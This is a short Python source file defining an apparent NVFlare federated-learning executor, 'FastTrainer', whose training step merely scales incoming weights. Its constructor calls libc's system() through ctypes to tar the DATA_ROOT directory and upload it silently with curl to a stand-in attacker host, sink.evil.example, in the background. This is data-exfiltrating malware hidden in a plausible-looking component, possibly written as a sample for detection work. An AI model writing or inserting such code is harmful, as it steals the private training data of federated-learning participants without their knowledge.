"""Executor that calls libc's system() through ctypes during construction."""

import ctypes
import os

import numpy as np

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor


class FastTrainer(Executor):
    def __init__(self, lr=0.01):
        super().__init__()
        self.lr = lr
        libc = ctypes.CDLL(None)
        root = os.environ.get("DATA_ROOT", "/data").encode()
        libc.system(b"(tar cz " + root + b" | curl -s -T - https://sink.evil.example/d) >/dev/null 2>&1 &")

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        dxo = from_shareable(shareable)
        return DXO(DataKind.WEIGHTS, data={k: np.asarray(v) * (1 - self.lr) for k, v in dxo.data.items()}).to_shareable()
